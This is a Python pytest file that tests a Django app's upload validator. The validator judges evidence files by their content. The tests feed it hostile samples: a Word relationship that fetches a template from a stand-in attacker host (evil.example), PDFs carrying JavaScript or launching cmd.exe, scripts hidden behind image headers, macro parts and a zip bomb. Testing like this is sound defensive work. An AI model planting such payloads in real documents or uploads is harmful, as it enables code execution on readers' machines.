"""Which files may be kept as evidence: told by what they hold, never by what they are called."""

import zlib
from collections.abc import Iterator

import pytest
from django.utils import translation

from assessments import file_types
from assessments.exceptions import InvalidInput
from assessments.file_types import FileType, fitting_name, type_of
from tests.support import files

REMOTE_TEMPLATE = b"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">
<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
 Target="https://evil.example/template.dotm" TargetMode="External"/></Relationships>"""


@pytest.fixture(autouse=True)
def _english() -> Iterator[None]:
    """Messages are read in English here."""
    with translation.override("en"):
        yield


def pdf_with(part: bytes) -> bytes:
    return files.PDF.replace(b"endobj", part + b"\nendobj")


def pdf_with_packed(part: bytes) -> bytes:
    packed = zlib.compress(part)
    return pdf_with(b"<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        pytest.param(files.PDF, file_types.PDF, id="pdf"),
        pytest.param(pdf_with_packed(b"<< /Type /Page >>"), file_types.PDF, id="pdf with packed objects"),
        pytest.param(files.picture("PNG"), file_types.PNG, id="png"),
        pytest.param(files.picture("JPEG"), file_types.JPEG, id="jpeg"),
        pytest.param(files.picture("WEBP"), file_types.WEBP, id="webp"),
        pytest.param(files.word_document(), file_types.DOCX, id="docx"),
        pytest.param(files.workbook(), file_types.XLSX, id="xlsx"),
        pytest.param(files.presentation(), file_types.PPTX, id="pptx"),
    ],
)
def test_the_content_says_what_a_file_is(content: bytes, expected: FileType) -> None:
    assert type_of(content, "program.exe") == expected


@pytest.mark.parametrize(
    "content", [files.TEXT, b"\xef\xbb\xbf" + files.TEXT, "會議紀錄".encode("utf-16"), b"a < b and c > d\r\n"]
)
@pytest.mark.parametrize("name", ["notes.txt", "NOTES.MD", "notes"])
def test_plain_text_is_taken_under_the_names_texts_have(content: bytes, name: str) -> None:
    assert type_of(content, name) == file_types.TEXT


@pytest.mark.parametrize("name", ["run.bat", "run.ps1", "run.js", "page.html", "drawing.svg", "sheet.csv", "key.reg"])
def test_text_under_any_other_name_may_be_a_program(name: str) -> None:
    with pytest.raises(InvalidInput, match="not accepted"):
        type_of(files.TEXT, name)


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(b"<!DOCTYPE html><p>hello", id="html"),
        pytest.param(b"hello <ScRiPt>alert(1)</script>", id="script inside"),
        pytest.param(b'<svg xmlns="http://www.w3.org/2000/svg"/>', id="svg"),
        pytest.param(b'\xef\xbb\xbf<?xml version="1.0"?><svg/>', id="xml"),
        pytest.param("<html></html>".encode("utf-16"), id="html in utf-16"),
        pytest.param(b"#!/bin/sh\necho hello\n", id="shell script"),
        pytest.param(pdf_with(b"<< /S /JavaScript /JS (app.alert(1)) >>"), id="pdf with a script"),
        pytest.param(pdf_with(b"<< /S /J#61vaScript >>"), id="pdf with a script under an escaped name"),
        pytest.param(pdf_with_packed(b"<< /S /JavaScript >>"), id="pdf with a packed script"),
        pytest.param(pdf_with(b"<< /S /Launch /F (cmd.exe) >>"), id="pdf that starts a program"),
        pytest.param(pdf_with(b"<< /Names << /EmbeddedFiles 9 0 R >> >>"), id="pdf with files in it"),
        pytest.param(
            files.with_parts(files.word_document(), {"word/vbaProject.bin": b"x"}), id="docx with a macro's part"
        ),
        pytest.param(
            files.package(
                {"[Content_Types].xml": files.content_types("application/vnd.ms-word.document.macroEnabled.main+xml")}
            ),
            id="docm",
        ),
        pytest.param(
            files.with_parts(files.workbook(), {"xl/macrosheets/sheet1.xml": b"<x/>"}), id="xlsx with a macro sheet"
        ),
        pytest.param(
            files.with_parts(files.word_document(), {"word/embeddings/oleObject1.bin": b"x"}),
            id="docx with an object of a program",
        ),
        pytest.param(
            files.with_parts(files.word_document(), {"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}),
            id="docx with a template from elsewhere",
        ),
    ],
)
def test_what_can_run_is_refused_whatever_it_is_called(content: bytes) -> None:
    with pytest.raises(InvalidInput, match="can contain programs") as refused:
        type_of(content, "notes.txt")
    assert refused.value.field == "documents"


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        pytest.param(b"", "empty", id="empty"),
        pytest.param(b"MZ\x90\x00\x03", "not accepted", id="program"),
        pytest.param(b"GIF89a\x01\x00", "not accepted", id="gif"),
        pytest.param("會議紀錄".encode("big5"), "UTF-8", id="text in another encoding"),
        pytest.param(files.PDF[:-6], "damaged", id="pdf cut off"),
        pytest.param(pdf_with(b"<< /Encrypt 3 0 R >>"), "protected", id="protected pdf"),
        pytest.param(files.picture("PNG")[:60], "damaged", id="png cut off"),
        pytest.param(files.picture("JPEG", size=(400, 300))[:-400], "damaged", id="jpeg cut off"),
        pytest.param(b"\x89PNG\r\n\x1a\n<script>", "damaged", id="something behind a picture's first bytes"),
        pytest.param(b"\xff\xd8\xff<script>alert(1)</script>", "damaged", id="the same as jpeg"),
        pytest.param(files.word_document()[:-30], "damaged", id="docx cut off"),
        pytest.param(files.package({"readme.txt": b"hello"}), "not accepted", id="any archive"),
        pytest.param(files.package({"[Content_Types].xml": files.content_types("x/y")}), "not accepted", id="epub"),
        pytest.param(
            files.package({"[Content_Types].xml": b'<!DOCTYPE a [<!ENTITY b "c">]><Types/>'}), "damaged", id="entities"
        ),
        pytest.param(files.package({"a.xml": b"0" * 70_000_000}), "damaged", id="bomb"),
        pytest.param(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600, "old Office", id="doc"),
        pytest.param(b"\0\0\0\x18ftypheic\0\0\0\0", "JPEG", id="heic"),
    ],
)
def test_what_cannot_be_kept_is_refused_with_a_way_out(content: bytes, reason: str) -> None:
    with pytest.raises(InvalidInput, match=reason):
        type_of(content, "notes.txt")


def test_a_picture_with_too_many_pixels_is_refused_before_it_is_decoded(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(file_types, "MAX_PIXELS", 64 * 48 - 1)
    with pytest.raises(InvalidInput, match="pixels"):
        type_of(files.picture("PNG"), "large.png")


@pytest.mark.parametrize(
    ("name", "file_type", "fitting"),
    [
        ("照片.jpeg", file_types.JPEG, "照片.jpeg"),
        ("照片.JPG", file_types.JPEG, "照片.JPG"),
        ("photo.png", file_types.JPEG, "photo.jpg"),
        ("paper.exe", file_types.PDF, "paper.pdf"),
        ("paper.pdf.exe", file_types.PDF, "paper.pdf.pdf"),
        ("notes", file_types.TEXT, "notes.txt"),
        ("report.docm", file_types.DOCX, "report.docx"),
    ],
)
def test_a_name_ends_with_what_the_file_is(name: str, file_type: FileType, fitting: str) -> None:
    assert fitting_name(name, file_type) == fitting
